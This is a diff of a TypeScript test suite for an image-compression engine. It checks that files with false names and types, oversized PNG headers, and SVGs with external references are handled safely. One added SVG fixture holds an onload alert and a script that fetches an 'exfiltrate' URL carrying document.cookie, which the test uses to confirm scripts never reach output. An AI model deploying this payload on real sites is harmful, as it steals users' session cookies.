@@ -2,30 +2,16 @@ import { randomBytes } from "node:crypto";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { deflateSync } from "node:zlib";
-import { ErrorCode, ImageFormat } from "@imgc/proto";
+import { create } from "@bufbuild/protobuf";
+import { createLogger } from "@imgc/common";
+import { ChunkItemSchema, ChunkSchema, ErrorCode, ImageFormat, ItemState } from "@imgc/proto";
 import sharp from "sharp";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { compress } from "./index.js";
+import { createItemProcessor } from "../process-item.js";
+import { pngChunk } from "./container-strip.js";
+import { CompressError, compress } from "./index.js";
+import { sanitizeSvg } from "./svg.js";
 import { corpusFile, failure, limits, options } from "./test-support.js";
-
-// CRC-32 as PNG chunks use it.
-const crc32 = (bytes: Buffer): number => {
-  let c = 0xffffffff;
-  for (const b of bytes) {
-    c ^= b;
-    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
-  }
-  return (c ^ 0xffffffff) >>> 0;
-};
-
-const chunk = (type: string, data: Buffer): Buffer => {
-  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
-  const out = Buffer.alloc(body.length + 8);
-  out.writeUInt32BE(data.length, 0);
-  body.copy(out, 4);
-  out.writeUInt32BE(crc32(body), body.length + 4);
-  return out;
-};
 
 /** A valid PNG header declaring width×height, followed by one tiny compressed row and IEND. */
 const declaredPng = (width: number, height: number): Buffer => {
@@ -35,9 +21,9 @@ const declaredPng = (width: number, height: number): Buffer => {
   ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
   return Buffer.concat([
     Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
-    chunk("IHDR", ihdr),
-    chunk("IDAT", deflateSync(Buffer.alloc(16))),
-    chunk("IEND", Buffer.alloc(0)),
+    pngChunk("IHDR", ihdr),
+    pngChunk("IDAT", deflateSync(Buffer.alloc(16))),
+    pngChunk("IEND", Buffer.alloc(0)),
   ]);
 };
 
@@ -52,12 +38,63 @@ describe("hostile inputs", () => {
     );
   });
 
-  it("reads the format from the bytes, so a wrong extension or type changes nothing", async () => {
-    // The engine never sees names: a PNG uploaded as photo.jpg is still a PNG.
-    const out = await compress(corpusFile("edge/uncompressed.tiff"), options({ format: ImageFormat.KEEP }), limits);
-    expect(out.inputFormat).toBe(ImageFormat.TIFF);
-    const png = await compress(corpusFile("photos/ihc.png"), options({ format: ImageFormat.KEEP }), limits);
-    expect([png.inputFormat, png.format]).toEqual([ImageFormat.PNG, ImageFormat.PNG]);
+  it("reads the format from the bytes, so a wrong extension or content type changes nothing", async () => {
+    // Names reach the engine only as the item's source key: run real files under lying names and types
+    // through the item processor, with the real engine.
+    const objects = new Map<string, { body: Buffer; contentType: string }>([
+      ["imgc/uploads/t/1/photo.jpg", { body: corpusFile("photos/ihc.png"), contentType: "image/jpeg" }],
+      ["imgc/uploads/t/1/scan.png", { body: corpusFile("edge/uncompressed.tiff"), contentType: "image/png" }],
+      ["imgc/uploads/t/1/image.gif", { body: corpusFile("photos/rocket.jpg"), contentType: "image/gif" }],
+    ]);
+    const processItem = createItemProcessor({
+      store: {
+        async get(bucket, key) {
+          const object = objects.get(`${bucket}/${key}`);
+          if (!object) throw new Error(`no ${key}`);
+          return object.body;
+        },
+        async put(bucket, key, body, contentType) {
+          objects.set(`${bucket}/${key}`, { body, contentType });
+        },
+      },
+      engine: { compress, errorCode: (e) => (CompressError.isCompressError(e) ? e.code : undefined) },
+      limits,
+      workerId: "w",
+      defaultBucket: "imgc",
+      log: createLogger("test", "silent"),
+    });
+    const chunk = create(ChunkSchema, {
+      jobId: "j",
+      tenant: "t",
+      options: options({ format: ImageFormat.KEEP }),
+      outputBucket: "imgc",
+      outputPrefix: "outputs/t/j/",
+    });
+    const cases = [
+      ["photo.jpg", ImageFormat.PNG, ImageFormat.PNG, "png"],
+      ["scan.png", ImageFormat.TIFF, ImageFormat.PNG, "png"],
+      ["image.gif", ImageFormat.JPEG, ImageFormat.JPEG, "jpg"],
+    ] as const;
+    for (const [name, inputFormat, format, extension] of cases) {
+      const key = `uploads/t/1/${name}`;
+      const itemId = name.replace(/\W/g, "");
+      const item = create(ChunkItemSchema, {
+        itemId,
+        bucket: "imgc",
+        key,
+        size: BigInt(objects.get(`imgc/${key}`)?.body.length ?? 0),
+      });
+      const result = await processItem(chunk, item, new AbortController().signal);
+      expect([ItemState.DONE, ItemState.KEPT_ORIGINAL], name).toContain(result.state);
+      expect([name, result.inputFormat, result.format, result.outputKey]).toEqual([
+        name,
+        inputFormat,
+        format,
+        `outputs/t/j/${itemId}.${extension}`,
+      ]);
+      const stored = objects.get(`imgc/outputs/t/j/${itemId}.${extension}`);
+      expect((await sharp(stored?.body).metadata()).format).toBe(extension === "jpg" ? "jpeg" : extension);
+    }
   });
 
   it("fails a tiny PNG declaring 65535×65535 with PIXEL_LIMIT, from the header, without decoding", async () => {
@@ -139,6 +176,7 @@ describe("hostile inputs", () => {
 describe("SVG with external references", () => {
   let server: Server;
   let hits: string[];
+  let connections = 0;
   let base: string;
 
   beforeAll(async () => {
@@ -150,6 +188,9 @@ describe("SVG with external references", () => {
       hits.push(req.url ?? "");
       res.writeHead(200, { "content-type": req.url?.endsWith(".css") ? "text/css" : "image/png" });
       res.end(req.url?.endsWith(".css") ? "rect { fill: red }" : png);
+    });
+    server.on("connection", () => {
+      connections++;
     });
     await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
     base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
@@ -169,10 +210,35 @@ describe("SVG with external references", () => {
   <xi:include href="${base}/include.svg" parse="xml"/>
   <use href="#dot"/><circle id="dot" cx="8" cy="8" r="4" fill="blue"/>
 </svg>`;
+    // What librsvg is given names no resource outside the document: nothing it could fetch.
+    const rendered = sanitizeSvg(Buffer.from(svg)).toString("utf8");
+    expect(rendered).not.toContain(base);
+    expect(rendered).not.toContain("file:");
     const out = await compress(Buffer.from(svg), options({ format: ImageFormat.PNG, allowLarger: true }), limits);
     expect([out.inputFormat, out.format, out.width, out.height]).toEqual([ImageFormat.SVG, ImageFormat.PNG, 64, 64]);
-    // Give a stray request time to arrive before asserting there was none.
-    await new Promise((resolve) => setTimeout(resolve, 200));
+    // librsvg loads resources synchronously while it renders: a fetch would have connected before the render
+    // returned, and the server counts connections, not just finished requests.
+    expect([connections, hits]).toEqual([0, []]);
+  });
+
+  it("never stores an SVG as uploaded: script and external references never reach the output", async () => {
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="256" height="256" onload="alert(1)">
+<script>fetch("${base}/exfiltrate?c="+document.cookie)</script>
+<defs><radialGradient id="g"><stop offset="0" stop-color="#f0a"/><stop offset="1" stop-color="#0af"/></radialGradient></defs>
+<circle cx="128" cy="128" r="120" fill="url(#g)"/><image href="${base}/tracker.png" width="1" height="1"/></svg>`;
+    const input = Buffer.from(svg);
+    for (const format of [ImageFormat.KEEP, ImageFormat.AUTO, ImageFormat.PNG]) {
+      const out = await compress(input, options({ format }), limits);
+      // The raster is larger than this small SVG: never-larger would have kept the original before.
+      expect([ImageFormat[format], out.kind, out.data.length > input.length]).toEqual([
+        ImageFormat[format],
+        "compressed",
+        true,
+      ]);
+      expect(out.format).not.toBe(ImageFormat.SVG);
+      expect(out.data.includes("<script")).toBe(false);
+      expect((await sharp(out.data).metadata()).format).toMatch(/^(png|jpeg|webp)$/);
+    }
     expect(hits).toEqual([]);
   });
 
